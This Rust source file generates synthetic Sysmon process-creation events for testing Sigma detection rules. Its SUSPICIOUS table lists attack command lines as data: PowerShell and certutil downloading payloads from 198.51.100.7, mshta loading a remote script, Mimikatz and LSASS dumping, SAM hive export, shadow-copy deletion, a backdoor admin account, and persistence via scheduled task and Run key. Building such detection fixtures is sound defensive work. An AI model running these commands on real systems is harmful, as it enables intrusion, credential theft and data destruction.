//! A Sysmon-shaped mix of Windows process creations for measuring Sigma rules: mostly the
//! ordinary starts a workstation sees all day (services, the shell, browsers, Office, updaters,
//! consoles with everyday command lines), some attack-like ones (encoded PowerShell, LOLBins
//! fetching files, shadow-copy deletion, credential dumping, discovery).
//!
//! Deterministic: the same seed gives the same events. Each event is written in Sysmon's field
//! names (what Sigma rules and other engines read) and in palisade's flat shape.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use serde_json::{Map, Value, json};

/// One process creation, in Sysmon event 1's terms.
#[derive(Debug, Clone)]
pub struct ProcessStart {
    pub computer: String,
    pub process_id: u32,
    pub image: String,
    pub original_file_name: String,
    pub command_line: String,
    pub current_directory: String,
    pub user: String,
    pub logon_id: String,
    pub integrity_level: String,
    pub hashes: String,
    pub company: String,
    pub product: String,
    pub description: String,
    pub file_version: String,
    pub parent_process_id: u32,
    pub parent_image: String,
    pub parent_command_line: String,
    pub parent_user: String,
}

/// A program: its path, PE metadata, and the command lines it is started with.
struct Program {
    image: &'static str,
    original: &'static str,
    company: &'static str,
    product: &'static str,
    description: &'static str,
    /// `{img}` is the image path, `{user}` the user's profile name, `{n}` a number.
    command_lines: &'static [&'static str],
    parents: &'static [&'static str],
}

const MS: &str = "Microsoft Corporation";
const WIN: &str = "Microsoft® Windows® Operating System";

const ORDINARY: &[(u32, Program)] = &[
    (
        14,
        Program {
            image: r"C:\Windows\System32\svchost.exe",
            original: "svchost.exe",
            company: MS,
            product: WIN,
            description: "Host Process for Windows Services",
            command_lines: &[
                r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
                r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
                r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s WpnUserService_{n}",
                r"C:\Windows\system32\svchost.exe -k wsappx -p -s AppXSvc",
            ],
            parents: &[r"C:\Windows\System32\services.exe"],
        },
    ),
    (
        10,
        Program {
            image: r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            original: "chrome.exe",
            company: "Google LLC",
            product: "Google Chrome",
            description: "Google Chrome",
            command_lines: &[
                r#""{img}" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={n} --mojo-platform-channel-handle=3512 /prefetch:1"#,
                r#""{img}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2104 /prefetch:8"#,
                r#""{img}" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAgAAAAAAAAACAAAAAAAAAA= --mojo-platform-channel-handle=1700 /prefetch:2"#,
            ],
            parents: &[r"C:\Program Files\Google\Chrome\Application\chrome.exe"],
        },
    ),
    (
        6,
        Program {
            image: r"C:\Windows\explorer.exe",
            original: "EXPLORER.EXE",
            company: MS,
            product: WIN,
            description: "Windows Explorer",
            command_lines: &[
                r"C:\Windows\Explorer.EXE",
                r"C:\Windows\explorer.exe /factory,{{75dff2b7-6936-4c06-a8bb-676a7b00b24b}} -Embedding",
            ],
            parents: &[
                r"C:\Windows\System32\userinit.exe",
                r"C:\Windows\System32\svchost.exe",
            ],
        },
    ),
    (
        6,
        Program {
            image: r"C:\Windows\System32\cmd.exe",
            original: "Cmd.Exe",
            company: MS,
            product: WIN,
            description: "Windows Command Processor",
            command_lines: &[
                r#"C:\Windows\system32\cmd.exe /c "C:\Program Files\Git\cmd\git.exe" status"#,
                r"cmd.exe /c echo %PATH%",
                r#"C:\Windows\system32\cmd.exe /d /s /c "npm run build""#,
                r"C:\Windows\System32\cmd.exe /c dir C:\Users\{user}\Documents",
                r#""C:\Windows\System32\cmd.exe""#,
            ],
            parents: &[
                r"C:\Windows\explorer.exe",
                r"C:\Program Files\Microsoft VS Code\Code.exe",
                r"C:\Program Files\nodejs\node.exe",
            ],
        },
    ),
    (
        5,
        Program {
            image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            original: "PowerShell.EXE",
            company: MS,
            product: WIN,
            description: "Windows PowerShell",
            command_lines: &[
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe""#,
                r"powershell.exe -NoProfile -Command Get-ChildItem C:\Users\{user}\Downloads",
                r#"powershell.exe -ExecutionPolicy RemoteSigned -File "C:\Users\{user}\scripts\backup.ps1""#,
                r"powershell -Command Get-Service | Where-Object Status -eq Running",
            ],
            parents: &[
                r"C:\Windows\explorer.exe",
                r"C:\Program Files\Microsoft VS Code\Code.exe",
            ],
        },
    ),
    (
        4,
        Program {
            image: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            original: "WinWord.exe",
            company: MS,
            product: "Microsoft Office",
            description: "Microsoft Word",
            command_lines: &[
                r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\Report Q{n}.docx" /o """#,
            ],
            parents: &[r"C:\Windows\explorer.exe"],
        },
    ),
    (
        4,
        Program {
            image: r"C:\Program Files\Microsoft VS Code\Code.exe",
            original: "electron.exe",
            company: MS,
            product: "Visual Studio Code",
            description: "Visual Studio Code",
            command_lines: &[
                r#""{img}" --type=renderer --user-data-dir="C:\Users\{user}\AppData\Roaming\Code" --standard-schemes=vscode-webview,vscode-file --enable-sandbox --first-renderer-process --lang=en-US --renderer-client-id={n} --launch-time-ticks=1234567 --mojo-platform-channel-handle=2712 /prefetch:1"#,
            ],
            parents: &[r"C:\Program Files\Microsoft VS Code\Code.exe"],
        },
    ),
    (
        4,
        Program {
            image: r"C:\Windows\System32\conhost.exe",
            original: "CONHOST.EXE",
            company: MS,
            product: WIN,
            description: "Console Window Host",
            command_lines: &[r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"],
            parents: &[
                r"C:\Windows\System32\cmd.exe",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            ],
        },
    ),
    (
        3,
        Program {
            image: r"C:\Windows\System32\RuntimeBroker.exe",
            original: "RuntimeBroker.exe",
            company: MS,
            product: WIN,
            description: "Runtime Broker",
            command_lines: &[r"C:\Windows\System32\RuntimeBroker.exe -Embedding"],
            parents: &[r"C:\Windows\System32\svchost.exe"],
        },
    ),
    (
        3,
        Program {
            image: r"C:\Program Files\Git\cmd\git.exe",
            original: "git.exe",
            company: "The Git Development Community",
            product: "Git",
            description: "Git for Windows",
            command_lines: &[
                r#""C:\Program Files\Git\cmd\git.exe" status"#,
                r#""C:\Program Files\Git\cmd\git.exe" fetch --all --prune"#,
                r#"git.exe log --oneline -n {n}"#,
            ],
            parents: &[
                r"C:\Windows\System32\cmd.exe",
                r"C:\Program Files\Microsoft VS Code\Code.exe",
            ],
        },
    ),
    (
        3,
        Program {
            image: r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe",
            original: "msedgeupdate.dll",
            company: MS,
            product: "Microsoft Edge Update",
            description: "Microsoft Edge Update",
            command_lines: &[
                r#""C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler"#,
            ],
            parents: &[r"C:\Windows\System32\svchost.exe"],
        },
    ),
    (
        2,
        Program {
            image: r"C:\Windows\System32\taskhostw.exe",
            original: "taskhostw.exe",
            company: MS,
            product: WIN,
            description: "Host Process for Windows Tasks",
            command_lines: &[
                r"taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}",
                r"taskhostw.exe Install $(Arg0)",
            ],
            parents: &[r"C:\Windows\System32\svchost.exe"],
        },
    ),
    (
        2,
        Program {
            image: r"C:\Windows\System32\SearchProtocolHost.exe",
            original: "searchprotocolhost.exe",
            company: MS,
            product: WIN,
            description: "Microsoft Windows Search Protocol Host",
            command_lines: &[
                r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon""#,
            ],
            parents: &[r"C:\Windows\System32\SearchIndexer.exe"],
        },
    ),
    (
        2,
        Program {
            image: r"C:\Windows\System32\wbem\WmiPrvSE.exe",
            original: "Wmiprvse.exe",
            company: MS,
            product: WIN,
            description: "WMI Provider Host",
            command_lines: &[
                r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
                r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding",
            ],
            parents: &[r"C:\Windows\System32\svchost.exe"],
        },
    ),
    (
        2,
        Program {
            image: r"C:\Program Files\nodejs\node.exe",
            original: "node.exe",
            company: "Node.js",
            product: "Node.js",
            description: "Node.js JavaScript Runtime",
            command_lines: &[
                r#""C:\Program Files\nodejs\node.exe" C:\Users\{user}\src\app\node_modules\.bin\..\webpack\bin\webpack.js --mode production"#,
            ],
            parents: &[r"C:\Windows\System32\cmd.exe"],
        },
    ),
    (
        2,
        Program {
            image: r"C:\Windows\System32\msiexec.exe",
            original: "msiexec.exe",
            company: MS,
            product: WIN,
            description: "Windows® installer",
            command_lines: &[
                r"C:\Windows\system32\msiexec.exe /V",
                r#"C:\Windows\System32\MsiExec.exe -Embedding 5A1B2C3D4E5F60718293A4B5C6D7E8F9 C"#,
            ],
            parents: &[
                r"C:\Windows\System32\services.exe",
                r"C:\Windows\System32\msiexec.exe",
            ],
        },
    ),
    (
        1,
        Program {
            image: r"C:\Windows\System32\notepad.exe",
            original: "NOTEPAD.EXE",
            company: MS,
            product: WIN,
            description: "Notepad",
            command_lines: &[
                r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\{user}\Desktop\notes.txt"#,
            ],
            parents: &[r"C:\Windows\explorer.exe"],
        },
    ),
    (
        1,
        Program {
            image: r"C:\Windows\System32\dllhost.exe",
            original: "dllhost.exe",
            company: MS,
            product: WIN,
            description: "COM Surrogate",
            command_lines: &[
                r"C:\Windows\system32\DllHost.exe /Processid:{{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}}",
            ],
            parents: &[r"C:\Windows\System32\svchost.exe"],
        },
    ),
    (
        1,
        Program {
            image: r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe",
            original: "Teams.exe",
            company: MS,
            product: "Microsoft Teams",
            description: "Microsoft Teams",
            command_lines: &[
                r#""{img}" --type=renderer --autoplay-policy=no-user-gesture-required --disable-background-timer-throttling --lang=en-US --renderer-client-id={n} /prefetch:1 --msteams-process-type=pluginHost"#,
            ],
            parents: &[r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe"],
        },
    ),
];

/// Attack-like starts: what the rules are written to catch.
const SUSPICIOUS: &[Program] = &[
    Program {
        image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        original: "PowerShell.EXE",
        company: MS,
        product: WIN,
        description: "Windows PowerShell",
        command_lines: &[
            r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            r"powershell -ExecutionPolicy Bypass -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
            r"powershell.exe -c Invoke-Mimikatz -DumpCreds",
        ],
        parents: &[
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        ],
    },
    Program {
        image: r"C:\Windows\System32\certutil.exe",
        original: "CertUtil.exe",
        company: MS,
        product: WIN,
        description: "CertUtil.exe",
        command_lines: &[
            r"certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\Users\Public\p.exe",
            r"certutil -decode C:\Users\Public\enc.txt C:\Users\Public\run.exe",
        ],
        parents: &[r"C:\Windows\System32\cmd.exe"],
    },
    Program {
        image: r"C:\Windows\System32\vssadmin.exe",
        original: "VSSADMIN.EXE",
        company: MS,
        product: WIN,
        description: "Command Line Interface for Microsoft® Volume Shadow Copy Service",
        command_lines: &[r"vssadmin.exe delete shadows /all /quiet"],
        parents: &[r"C:\Windows\System32\cmd.exe"],
    },
    Program {
        image: r"C:\Windows\System32\rundll32.exe",
        original: "RUNDLL32.EXE",
        company: MS,
        product: WIN,
        description: "Windows host process (Rundll32)",
        command_lines: &[
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full",
            r"rundll32.exe javascript:\..\mshtml,RunHTMLApplication",
        ],
        parents: &[
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        ],
    },
    Program {
        image: r"C:\Windows\System32\mshta.exe",
        original: "MSHTA.EXE",
        company: MS,
        product: WIN,
        description: "Microsoft (R) HTML Application host",
        command_lines: &[
            r"mshta.exe http://198.51.100.7/update.hta",
            r#"mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell"":close")"#,
        ],
        parents: &[
            r"C:\Windows\explorer.exe",
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        ],
    },
    Program {
        image: r"C:\Windows\System32\schtasks.exe",
        original: "schtasks.exe",
        company: MS,
        product: WIN,
        description: "Task Scheduler Configuration Tool",
        command_lines: &[
            r#"schtasks /create /sc minute /mo 5 /tn "Updater" /tr "C:\Users\Public\p.exe" /ru SYSTEM /f"#,
        ],
        parents: &[r"C:\Windows\System32\cmd.exe"],
    },
    Program {
        image: r"C:\Windows\System32\whoami.exe",
        original: "whoami.exe",
        company: MS,
        product: WIN,
        description: "whoami - displays logged on user information",
        command_lines: &[r"whoami /all", r"whoami /priv"],
        parents: &[
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        ],
    },
    Program {
        image: r"C:\Windows\System32\net.exe",
        original: "net.exe",
        company: MS,
        product: WIN,
        description: "Net Command",
        command_lines: &[
            r"net user admin P@ssw0rd! /add",
            r#"net localgroup administrators admin /add"#,
            r#"net group "domain admins" /domain"#,
        ],
        parents: &[r"C:\Windows\System32\cmd.exe"],
    },
    Program {
        image: r"C:\Windows\System32\reg.exe",
        original: "reg.exe",
        company: MS,
        product: WIN,
        description: "Registry Console Tool",
        command_lines: &[
            r"reg save HKLM\SAM C:\Users\Public\sam.save",
            r#"reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v Updater /t REG_SZ /d "C:\Users\Public\p.exe" /f"#,
        ],
        parents: &[r"C:\Windows\System32\cmd.exe"],
    },
    Program {
        image: r"C:\Users\Public\p.exe",
        original: "?",
        company: "?",
        product: "?",
        description: "?",
        command_lines: &[r"C:\Users\Public\p.exe -connect 198.51.100.7:443"],
        parents: &[
            r"C:\Windows\System32\schtasks.exe",
            r"C:\Windows\System32\cmd.exe",
        ],
    },
];

const USERS: &[&str] = &["alice", "bob", "carol", "dave"];
const HOSTS: &[&str] = &["WS-0142", "WS-0177", "LAPTOP-7Q2K", "SRV-FILE01"];

fn hex(rng: &mut StdRng, len: usize) -> String {
    (0..len)
        .map(|_| char::from(b"0123456789ABCDEF"[rng.gen_range(0..16)]))
        .collect()
}

fn fill(template: &str, image: &str, user: &str, n: u32) -> String {
    template
        .replace("{img}", image)
        .replace("{user}", user)
        .replace("{n}", &n.to_string())
        .replace("{{", "{")
        .replace("}}", "}")
}

/// `count` process starts; `suspicious_per_mille` of them attack-like.
pub fn generate(count: usize, seed: u64, suspicious_per_mille: u32) -> Vec<ProcessStart> {
    let mut rng = StdRng::seed_from_u64(seed);
    let total: u32 = ORDINARY.iter().map(|(w, _)| w).sum();
    (0..count)
        .map(|_| {
            let program = if rng.gen_range(0..1000) < suspicious_per_mille {
                SUSPICIOUS.choose(&mut rng).unwrap_or(&SUSPICIOUS[0])
            } else {
                let mut pick = rng.gen_range(0..total);
                let mut chosen = &ORDINARY[0].1;
                for (weight, program) in ORDINARY {
                    if pick < *weight {
                        chosen = program;
                        break;
                    }
                    pick -= weight;
                }
                chosen
            };
            let user = *USERS.choose(&mut rng).unwrap_or(&"alice");
            let system = program.image.contains("svchost")
                || program.parents.iter().any(|p| p.contains("services.exe"));
            let n = rng.gen_range(1..5000);
            let image = fill(program.image, "", user, n);
            let template = program.command_lines.choose(&mut rng).unwrap_or(&"");
            let parent = fill(program.parents.choose(&mut rng).unwrap_or(&""), "", user, n);
            let (account, integrity) = if system {
                ("NT AUTHORITY\\SYSTEM".to_owned(), "System")
            } else {
                (
                    format!("CORP\\{user}"),
                    if rng.gen_bool(0.15) { "High" } else { "Medium" },
                )
            };
            ProcessStart {
                computer: format!(
                    "{}.corp.example.com",
                    HOSTS.choose(&mut rng).unwrap_or(&"WS")
                ),
                process_id: rng.gen_range(1000..60000),
                command_line: fill(template, &image, user, n),
                original_file_name: program.original.to_owned(),
                current_directory: if system {
                    r"C:\Windows\system32\".to_owned()
                } else {
                    format!(r"C:\Users\{user}\")
                },
                user: account.clone(),
                logon_id: format!("0x{:x}", rng.gen_range(0x3e7..0xfffff)),
                integrity_level: integrity.to_owned(),
                hashes: format!(
                    "SHA1={},MD5={},SHA256={},IMPHASH={}",
                    hex(&mut rng, 40),
                    hex(&mut rng, 32),
                    hex(&mut rng, 64),
                    hex(&mut rng, 32)
                ),
                company: program.company.to_owned(),
                product: program.product.to_owned(),
                description: program.description.to_owned(),
                file_version: format!("10.0.19041.{}", rng.gen_range(1..4000)),
                parent_process_id: rng.gen_range(500..60000),
                parent_command_line: parent.clone(),
                parent_image: parent,
                parent_user: account,
                image,
            }
        })
        .collect()
}

impl ProcessStart {
    /// Sysmon event 1 as a flat JSON object with Sysmon's field names.
    pub fn sysmon(&self) -> Value {
        json!({
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": self.computer,
            "ProcessId": self.process_id,
            "Image": self.image,
            "FileVersion": self.file_version,
            "Description": self.description,
            "Product": self.product,
            "Company": self.company,
            "OriginalFileName": self.original_file_name,
            "CommandLine": self.command_line,
            "CurrentDirectory": self.current_directory,
            "User": self.user,
            "LogonId": self.logon_id,
            "IntegrityLevel": self.integrity_level,
            "Hashes": self.hashes,
            "ParentProcessId": self.parent_process_id,
            "ParentImage": self.parent_image,
            "ParentCommandLine": self.parent_command_line,
            "ParentUser": self.parent_user,
        })
    }

    /// The same start in palisade's flat sensor shape.
    pub fn flat(&self, index: usize) -> Value {
        let name = self.image.rsplit('\\').next().unwrap_or_default();
        let parent = self.parent_image.rsplit('\\').next().unwrap_or_default();
        let mut map = Map::new();
        let mut put = |key: &str, value: Value| {
            map.insert(key.to_owned(), value);
        };
        put("id", json!(format!("e{index}")));
        put("type", json!("process_create"));
        put("timestamp", json!("2026-11-30T12:00:00Z"));
        put("host", json!(self.computer));
        put("pid", json!(self.process_id));
        put("ppid", json!(self.parent_process_id));
        put("name", json!(name));
        put("parent_name", json!(parent));
        put("image", json!(self.image));
        put("cmdline", json!(self.command_line));
        put("user", json!(self.user));
        put("parent_image", json!(self.parent_image));
        put("parent_cmdline", json!(self.parent_command_line));
        put("parent_user", json!(self.parent_user));
        put("original_file_name", json!(self.original_file_name));
        put("integrity_level", json!(self.integrity_level));
        put("current_directory", json!(self.current_directory));
        put("logon_id", json!(self.logon_id));
        put("hashes", json!(self.hashes));
        put("company", json!(self.company));
        put("product", json!(self.product));
        put("file_description", json!(self.description));
        put("file_version", json!(self.file_version));
        Value::Object(map)
    }
}
